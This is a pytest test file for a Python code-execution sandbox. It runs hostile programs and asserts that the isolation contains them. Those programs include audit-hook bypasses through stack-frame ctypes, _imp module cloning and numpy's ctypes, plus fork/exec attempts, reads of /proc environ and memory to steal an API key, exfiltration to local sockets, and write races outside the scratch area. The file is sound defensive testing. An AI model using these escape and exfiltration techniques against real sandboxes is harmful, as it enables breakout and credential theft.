"""Hostile programs, one test per class of issue 15's review; each is contained by the
kernel's boundary with the right status, leaves nothing on the host and never sees the
API key.

Every attack runs twice: in an ordinary sandbox and in one whose children run without
the audit hook (``_audit_hook=False``), so that what holds is shown to hold without it:
the hook is defence in depth only. Programs that get native code do so the way the
review did (the server's ctypes objects reachable from the stack, ``_imp`` tricks,
numpy's ctypes) or, without the hook, simply by importing ctypes.
"""

from __future__ import annotations

import contextlib
import dataclasses
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest
from test_sandbox_support import (IS_ROOT, REPO, SECRETS, SETTINGS, HostWatch, marker, sandbox_processes,
                                  started_sandbox)

from scoreflow import _sandbox_host
from scoreflow.sandbox import CodeCheck, Sandbox, SandboxSettings

WEAK = dataclasses.replace(SETTINGS, isolation="weak")


@contextlib.contextmanager
def weak_mode():
    """Sandboxes with ``isolation: weak`` started inside run as where the kernel forbids
    user namespaces (Landlock, seccomp, rlimits; no namespaces)."""
    _sandbox_host._STRICT_REFUSED["reason"] = "refused by the test (weak mode)"
    try:
        yield
    finally:
        _sandbox_host._STRICT_REFUSED.pop("reason", None)


@pytest.fixture(scope="module", params=["hooked", "unhooked", "weak-unhooked"])
def box(request):
    if request.param == "weak-unhooked":
        with weak_mode():
            sandbox = started_sandbox(WEAK, _audit_hook=False)
        assert sandbox.server_info()["isolation"] == "weak"
    else:
        sandbox = started_sandbox(SETTINGS, _audit_hook=request.param == "hooked")
    yield sandbox
    sandbox.close()


REFUSED = ("EPERM", "-1", "PermissionError", "no native code")  # by seccomp, or the hook before it


def outcomes(output: str) -> dict[str, str]:
    """label -> what happened, from the ``attempt(label, ...)`` lines a program printed."""
    return dict(line.rsplit(" ", 1) for line in output.splitlines() if " " in line)


def _assert_no_secret(text: str) -> None:
    for secret in SECRETS.values():
        assert secret not in text
    assert "API_KEY" not in text


# A helper every attack uses: native code by whatever way this sandbox leaves open.
NATIVE = r'''
import sys, errno as _errno

def native():
    """(libc, ctypes) or (None, None)."""
    try:
        import ctypes
        return ctypes.CDLL(None, use_errno=True), ctypes
    except Exception:
        pass
    try:  # review, bypass 1: the fork server's own ctypes objects, reachable from the stack
        frame = sys._getframe()
        while frame is not None:
            for value in list(frame.f_locals.values()):
                kernel = getattr(getattr(value, "server", None), "kernel", None)
                if kernel is not None:
                    return kernel.libc, type(kernel).__init__.__globals__["ctypes"]
            frame = frame.f_back
    except Exception:
        pass
    return None, None

LIBC, CTYPES = native()

def call(name, *args):
    if LIBC is None:
        return "no native code"
    CTYPES.set_errno(0)
    result = getattr(LIBC, name)(*args)
    return result if result >= 0 else _errno.errorcode.get(CTYPES.get_errno(), "?")

def attempt(label, action):
    try:
        print(label, action())
    except BaseException as exc:
        print(label, type(exc).__name__)
'''


# ------------------------------------------------------------------ 1. audit-hook bypasses


def test_no_bypass_gives_a_process_or_a_program(box):
    """Review class 1: fork/exec by every route, including the ones that got around the
    audit hook; each is refused by seccomp, no process appears, nothing runs."""
    name = marker()
    program = NATIVE + f'''
import os
target = "/tmp/{name}"
attempt("fork", lambda: call("fork"))
attempt("vfork", lambda: call("syscall", 58))
attempt("clone", lambda: call("syscall", 56, 17, 0, 0, 0, 0))
attempt("clone3", lambda: call("syscall", 435, 0, 0))
attempt("execve", lambda: call("execve", b"/bin/sh", (CTYPES.c_char_p * 4)(b"sh", b"-c", b"touch " + target.encode(), None) if CTYPES else None, None))
attempt("os.fork", os.fork)
attempt("posix_spawn", lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "touch " + target], {{}}))
import _imp, importlib.machinery as machinery
def fresh(name, spec_name):  # review, bypasses 2 and 3: a second, working copy of a module
    spec = machinery.ModuleSpec(spec_name, None, origin=getattr(sys.modules.get(name), "__file__", None))
    return _imp.create_dynamic(spec) if spec.origin else _imp.create_builtin(spec)
def spawn_with(fork_exec):
    read_end, write_end = os.pipe()
    return fork_exec([b"/bin/sh", b"-c", b"touch " + target.encode()], [b"/bin/sh"], True, (read_end, write_end), None,
                     None, -1, -1, -1, -1, -1, -1, read_end, write_end, False, False, -1, None, None, None, -1, None,
                     True)
attempt("create_dynamic _posixsubprocess", lambda: spawn_with(fresh("_posixsubprocess", "x._posixsubprocess").fork_exec))
attempt("cached unshare", lambda: LIBC.unshare(0x10000000) if LIBC is not None else "no native code")
attempt("cached mount", lambda: LIBC.mount(b"none", b"/scratch", b"tmpfs", 0, None) if LIBC is not None else "no native code")
attempt("create_builtin posix.fork", lambda: fresh("posix", "posix").fork())
attempt("create_builtin posix.execv", lambda: fresh("posix", "posix").execv("/bin/sh", ["sh", "-c", "touch " + target]))
'''
    before = len(sandbox_processes(box))
    watch = HostWatch(name)
    result = box.run_sync(program, time_limit_s=10)
    assert result.status == "pass", result
    lines = outcomes(result.output)
    if not box._supervisor.audit_hook:
        assert lines["fork"] != "no native code", result.output  # without the hook ctypes works: the kernel decides
    for label in ("fork", "vfork", "clone", "execve", "cached unshare", "cached mount"):
        assert lines[label] in REFUSED, (label, result.output)
    assert lines["clone3"] in ("ENOSYS", "PermissionError", "no native code")
    for label in ("os.fork", "posix_spawn", "create_dynamic _posixsubprocess", "create_builtin posix.fork",
                  "create_builtin posix.execv"):
        assert lines[label] in ("PermissionError", "ImportError", "AttributeError"), (label, result.output)
    assert len(sandbox_processes(box)) == before
    watch.assert_untouched()


def test_numpys_ctypes_in_the_programmer_sandbox_reaches_nothing():
    """Review class 1, bypass 4: numpy's bundled ctypes (pointer forgery) in the
    Programmer's sandbox; whatever it does in its own process, the kernel refuses the rest."""
    pytest.importorskip("numpy")
    name = marker()
    program = NATIVE + f'''
import numpy
ctypes = numpy.core._internal.ctypes
attempt("numpy ctypes", lambda: ctypes.__name__)
try:
    LIBC, CTYPES = ctypes.CDLL(None, use_errno=True), ctypes
except Exception as exc:
    print("dlopen", type(exc).__name__)
attempt("fork", lambda: call("fork"))
attempt("socket", lambda: call("socket", 2, 1, 0))
attempt("open", lambda: open("/tmp/{name}", "w"))
'''
    with started_sandbox(SETTINGS, site_packages=True, preload=("numpy",)) as sandbox:
        watch = HostWatch(name)
        result = sandbox.run_sync(program)
    lines = outcomes(result.output)
    assert result.status == "pass" and lines["numpy ctypes"] == "ctypes", result
    assert lines["fork"] in REFUSED and lines["socket"] in REFUSED, result.output
    assert lines["open"] in ("FileNotFoundError", "PermissionError"), result.output
    watch.assert_untouched()


# ------------------------------------------------------------------ 2. the API key


class _Listener:
    """A TCP, abstract and filesystem Unix socket on the host, recording what arrives."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract_name = "\0" + marker()
        self.abstract.bind(self.abstract_name)
        self.path = f"/tmp/{marker()}.sock"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.path)
        os.chmod(self.path, 0o777)
        for sock in (self.tcp, self.abstract, self.unix):
            sock.listen()
            sock.settimeout(0.2)
            threading.Thread(target=self._accept, args=(sock,), daemon=True).start()

    def _accept(self, sock: socket.socket) -> None:
        while True:
            try:
                connection, _ = sock.accept()
                self.received.append(connection.recv(4096) or b"(connected)")
            except socket.timeout:
                continue
            except OSError:
                return

    def close(self) -> None:
        for sock in (self.tcp, self.abstract, self.unix):
            sock.close()
        os.unlink(self.path)


def _exfiltration(listener: _Listener) -> str:
    port = listener.tcp.getsockname()[1]
    return f'''
import os, socket, glob
found = []
for path in ["/proc/self/environ", "/proc/1/environ", "/proc/{os.getpid()}/environ", "/proc/{os.getppid()}/environ",
             *glob.glob("/proc/[0-9]*/environ")]:
    try:
        found.append(open(path, "rb").read())
    except Exception as exc:
        print(path, type(exc).__name__)
for path in glob.glob("/proc/[0-9]*/mem"):
    try:
        with open(path, "rb") as handle:
            found.append(handle.read(64))
    except Exception as exc:
        print(path, type(exc).__name__)
found.append(repr(dict(os.environ)).encode())
blob = b"\\n".join(found)
attempt("process_vm_readv", lambda: call("process_vm_readv", {os.getpid()}, None, 0, None, 0, 0))
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(blob))
attempt("abstract", lambda: (lambda s: (s.connect({listener.abstract_name!r}), s.sendall(blob)))(socket.socket(socket.AF_UNIX)))
attempt("unix file", lambda: (lambda s: (s.connect({listener.path!r}), s.sendall(blob)))(socket.socket(socket.AF_UNIX)))
attempt("raw socket", lambda: call("socket", 1, 1, 0))
print("environ", repr(dict(os.environ)))
'''


def test_the_api_key_never_reaches_a_program_nor_leaves(box):
    """Review class 2: environ and memory of every process, sent to every kind of
    socket the host offers; the key is not readable and nothing arrives."""
    listener = _Listener()
    try:
        result = box.run_sync(NATIVE + _exfiltration(listener), time_limit_s=10)
        time.sleep(0.3)
    finally:
        listener.close()
    assert result.status == "pass", result
    _assert_no_secret(result.output)
    assert listener.received == []
    lines = outcomes(result.output)
    for label in ("tcp", "abstract", "unix file", "raw socket", "process_vm_readv"):
        assert lines[label] in REFUSED, (label, result.output)


@pytest.mark.skipif(IS_ROOT, reason="root may read any process's memory; the check is for an ordinary user")
def test_this_process_environment_is_unreadable_by_its_own_uid(box):
    """The main process is non-dumpable: a process of the same uid outside the sandbox
    (what a program would become after an escape) cannot read its environ or memory."""
    probe = f"open('/proc/{os.getpid()}/environ', 'rb').read()"
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=30)
    assert done.returncode != 0 and "PermissionError" in done.stderr, done


# ------------------------------------------------------------------ 3. writes outside the scratch


def test_writes_outside_the_scratch_never_reach_the_host(box, tmp_path):
    """Review class 3: os.open relative to directory descriptors, a cwd race between
    threads, links; into /tmp, /dev/shm, the repository, the home dir, /."""
    name = marker()
    victim = tmp_path / "victim"
    victim.mkdir()
    victim.chmod(0o777)
    sentinel = victim / "sentinel.txt"
    sentinel.write_text("original")
    sentinel.chmod(0o666)
    places = ["/tmp", "/dev/shm", "/var/tmp", "/", str(REPO), str(Path.home()), str(victim), "/sandbox", "/usr"]
    program = NATIVE + f'''
import os, threading
name = {name!r}
for place in {places!r}:
    attempt("dirfd " + place, lambda: os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0o666, dir_fd=os.open(place, os.O_RDONLY))))
    attempt("path " + place, lambda: open(os.path.join(place, name), "w").write("x"))
    attempt("mkdir " + place, lambda: os.mkdir(os.path.join(place, name)))
attempt("sentinel", lambda: open({str(sentinel)!r}, "w").write("owned"))
attempt("symlink", lambda: (os.symlink({str(sentinel)!r}, "link"), open("link", "w").write("owned")))
attempt("hardlink", lambda: (os.link({str(sentinel)!r}, "hard"), open("hard", "w").write("owned")))
os.mkdir("inside")
stop = []
def flip():
    while not stop:
        for place in ("/tmp", "/dev/shm", "inside", "/"):
            try:
                os.chdir(place)
            except OSError:
                pass
thread = threading.Thread(target=flip)
thread.start()
for _ in range(2000):
    try:
        open(name, "w").close()
    except OSError:
        pass
stop.append(1)
thread.join()
print("race done")
'''
    watch = HostWatch(name, extra=(str(victim),))
    result = box.run_sync(program, time_limit_s=20)
    assert result.status == "pass" and "race done" in result.output, result
    assert sentinel.read_text() == "original" and sorted(p.name for p in victim.iterdir()) == ["sentinel.txt"]
    assert oct(sentinel.stat().st_mode & 0o777) == oct(0o666)
    watch.assert_untouched()


# ------------------------------------------------------------------ 4. one program breaks the next


def test_a_deep_tree_and_many_files_do_not_harm_later_programs(box):
    """Review class 4: a 2,000-level tree (built cheaply by renames) and 100,000 files;
    the next program, here and in a new sandbox, runs normally and at once."""
    program = '''
import os
os.mkdir("top")
for level in range(2000):  # nest the tree one level deeper with each rename
    os.mkdir("next")
    os.rename("top", "next/top")
    os.rename("next", "top")
os.mkdir("many")
for index in range(100_000):
    open(f"many/{index}", "w").close()
print("built", len(os.listdir("many")))
'''
    result = box.run_sync(program, time_limit_s=120)
    assert (result.status, result.output) == ("pass", "built 100000\n"), result
    started = time.monotonic()
    after = box.run_sync("import os\nprint(os.listdir('.'))")
    assert (after.status, after.output) == ("pass", "[]\n") and time.monotonic() - started < 2, after
    with Sandbox(SETTINGS) as fresh:
        assert fresh.run_sync("print('normal')").output == "normal\n"


def test_a_program_that_kills_its_server_only_loses_its_own_run():
    """A server that died (here: killed from outside) leaves nothing that stops the next
    sandbox; programs in flight are retried on a fresh server."""
    with Sandbox(SETTINGS) as first:
        os.kill(first.server_info()["pid"], 9)
        assert first.run_sync("print('again')").output == "again\n"
    with Sandbox(SETTINGS) as second:
        assert second.run_sync("print('fine')").output == "fine\n"


def _dead_pid() -> int:
    """A pid no process can have (above the kernel's pid_max)."""
    return int(Path("/proc/sys/kernel/pid_max").read_text()) + 1 + uuid.uuid4().int % 1000


def _deep_tree(root: str, levels: int, files: int) -> None:
    """A tree ``levels`` deep with ``files`` files at the top, built through directory
    descriptors (its paths are far longer than PATH_MAX)."""
    os.mkdir(root, 0o700)
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    for index in range(files):
        os.close(os.open(str(index), os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=fd))
    for _ in range(levels):
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(fd)


def test_a_dead_servers_leftovers_are_removed_and_planted_names_are_never_touched(tmp_path):
    """Review class 4, second part: a weak server's folders are named scoreflow-sandbox-<pid>-<hex> in the
    temp dir. A dead server's own leftover (a 2,000-level tree) is removed without harm to the next
    start; things planted under such names (a file, a symlink to a victim folder, another user's
    folder) are neither deleted nor chmodded, and neither is the temp dir itself. A strict server
    makes nothing on the host at all."""
    tmp = tempfile.gettempdir()
    dead = _dead_pid()
    leftover = os.path.join(tmp, f"scoreflow-sandbox-{dead}-0badc0de")
    _deep_tree(leftover, 2000, 1000)
    victim = tmp_path / "victim"
    victim.mkdir(mode=0o755)
    (victim / "keep.txt").write_text("keep")
    planted = {"file": os.path.join(tmp, f"scoreflow-sandbox-{dead}-0000f11e"),
               "symlink": os.path.join(tmp, f"scoreflow-sandbox-{dead}-000011a4")}
    Path(planted["file"]).write_text("not yours")
    os.chmod(planted["file"], 0o644)
    os.symlink(victim, planted["symlink"])
    if IS_ROOT:  # another user's folder (an ordinary user cannot make one: a same-uid folder is its own)
        planted["foreign"] = os.path.join(tmp, f"scoreflow-sandbox-{dead}-0f0e1a90")
        os.mkdir(planted["foreign"], 0o755)
        Path(planted["foreign"], "inside.txt").write_text("not yours")
        os.chown(planted["foreign"], 65534, 65534)
    modes = {path: os.lstat(path).st_mode for path in [tmp, "/dev/shm", *planted.values(), str(victim)]}
    try:
        with weak_mode(), started_sandbox(WEAK) as weak:
            assert weak.server_info()["isolation"] == "weak"
            assert weak.run_sync("print('normal')").output == "normal\n"
            own = weak.server_info()["scratch"]
            assert os.path.basename(own).startswith("scoreflow-sandbox-") and os.path.isdir(own)
        assert not os.path.lexists(own)  # a closed server leaves nothing
        with started_sandbox(SETTINGS) as strict:
            before = set(os.listdir(tmp)) | set(os.listdir("/dev/shm"))
            assert strict.run_sync("print('normal')").output == "normal\n"
            assert set(os.listdir(tmp)) | set(os.listdir("/dev/shm")) == before
        assert not os.path.lexists(leftover)
        assert all(os.path.lexists(path) for path in planted.values())
        assert {path: os.lstat(path).st_mode for path in modes} == modes
        assert (victim / "keep.txt").read_text() == "keep"
        assert not IS_ROOT or Path(planted["foreign"], "inside.txt").exists()
    finally:
        for path in planted.values():
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path)
            elif os.path.lexists(path):
                os.unlink(path)
        if os.path.lexists(leftover):
            subprocess.run(["rm", "-rf", leftover], check=False)


# ------------------------------------------------------------------ 6. unbounded scratch


def test_the_scratch_is_bounded_even_where_memory_is_not_charged():
    """Review class 6: a tmpfs is memory the address-space limit does not see; the
    scratch has a size of its own (4 x file_size_mb)."""
    settings = SandboxSettings(workers=1, memory_mb=256, file_size_mb=16)
    program = '''
written = 0
try:
    for index in range(1024):
        with open(f"chunk{index}", "wb") as handle:
            handle.write(b"x" * (1 << 20))
        written += 1
finally:
    print("MiB written", written)
'''
    with started_sandbox(settings) as sandbox:
        result = sandbox.run_sync(program, time_limit_s=30)
    assert result.status == "fail" and "No space left on device" in result.message, result
    assert int(result.output.split("MiB written")[1].split()[0]) <= settings.scratch_mb


# ------------------------------------------------------------------ 7. host Unix sockets


def test_host_unix_sockets_are_out_of_reach(box):
    """Review class 7: a world-connectable socket file on the host receives nothing."""
    listener = _Listener()
    try:
        program = NATIVE + f'''
import socket
attempt("connect", lambda: socket.socket(socket.AF_UNIX).connect({listener.path!r}))
attempt("socketpair", lambda: socket.socketpair())
attempt("native", lambda: call("socket", 1, 1, 0))
import os
attempt("visible", lambda: os.path.exists({listener.path!r}))
'''
        result = box.run_sync(program)
        time.sleep(0.3)
    finally:
        listener.close()
    lines = outcomes(result.output)
    assert result.status == "pass", result
    assert lines["connect"] in REFUSED and lines["socketpair"] in REFUSED and lines["native"] in REFUSED, result.output
    if box.server_info()["isolation"] == "strict":  # weak mode shows the host's files (Landlock limits writes)
        assert lines["visible"] == "False", result.output
    assert listener.received == []


# ------------------------------------------------------------------ 8. what is not the program's


MEMORY_SCAN = r'''
import re
def scan(path_maps, path_mem, pattern):
    hits = set()
    try:
        maps = open(path_maps).read().splitlines()
        mem = open(path_mem, "rb", 0)
    except Exception as exc:
        return "unreadable: " + type(exc).__name__
    for line in maps:
        fields = line.split()
        if len(fields) < 2 or "r" not in fields[1]:
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        try:
            mem.seek(start)
            hits |= set(re.findall(pattern, mem.read(end - start)))
        except Exception:
            pass
    return sorted(hits)
'''


def test_no_program_reads_other_programs_their_tests_or_the_repository(box):
    """Review class 8: the other slot's running program, earlier and queued programs and
    hidden tests (they never were in the server's memory), the repository, the data."""
    tokens = [f"QQ-SECRET-{uuid.uuid4().hex[:12]}" for _ in range(4)]
    holder = box.submit(f"import time\nkept = {tokens[0]!r} * 2\ntime.sleep(3)")
    earlier = box.check_sync(CodeCheck("def f():\n    return 1\n", f"def check(c):\n    assert c() == 1, {tokens[1]!r}\n",
                                       "check(f)", "f"))
    queued = [box.submit(f"import time\ntime.sleep(0.2)\nprint({tokens[2]!r})") for _ in range(3)]
    queued.append(box.submit_check(CodeCheck("def f():\n    return 2\n", f"def check(c):\n    assert c() == 2, {tokens[3]!r}\n",
                                             "check(f)", "f")))
    data = Path(REPO).parent / "shared" / "data" / "aflow" / "mbpp_test.jsonl"
    pattern = "rb'QQ-' + rb'SECRET-[0-9a-f]{12}'"
    program = NATIVE + MEMORY_SCAN + f'''
import os, glob, uuid
canary = "QQ-" + "SECRET-" + uuid.uuid4().hex[:12]  # proves that the scan reads memory
attempt("dumpable", lambda: LIBC.prctl(4, 1, 0, 0, 0) if LIBC is not None else "no native code")
own = scan("/proc/self/maps", "/proc/self/mem", {pattern})
print("own memory", own, "canary found:", type(own) is list and canary.encode() in own)
for entry in glob.glob("/proc/[0-9]*"):
    if entry != "/proc/" + str(os.getpid()):
        print("other", scan(entry + "/maps", entry + "/mem", {pattern}))
for path in {[str(REPO / "README.md"), str(REPO / "data"), str(data), str(REPO / "workspace"),
              str(Path(REPO).parent / "shared")]!r}:
    attempt("read " + path, lambda: os.listdir(path) if os.path.isdir(path) else open(path).read(10))
'''
    result = box.run_sync(program, time_limit_s=30)
    assert result.status == "pass", result
    if box.server_info()["isolation"] == "strict":  # (Landlock keeps a weak child from /proc/self/mem)
        assert "canary found: True" in result.output, result.output  # it could read its own memory
    for token in tokens:
        assert token not in result.output, result.output
    for line in result.output.splitlines():
        if line.startswith("read "):
            assert line.endswith(("FileNotFoundError", "PermissionError")), line
    assert holder.result().passed and earlier.passed and all(f.result().passed for f in queued)
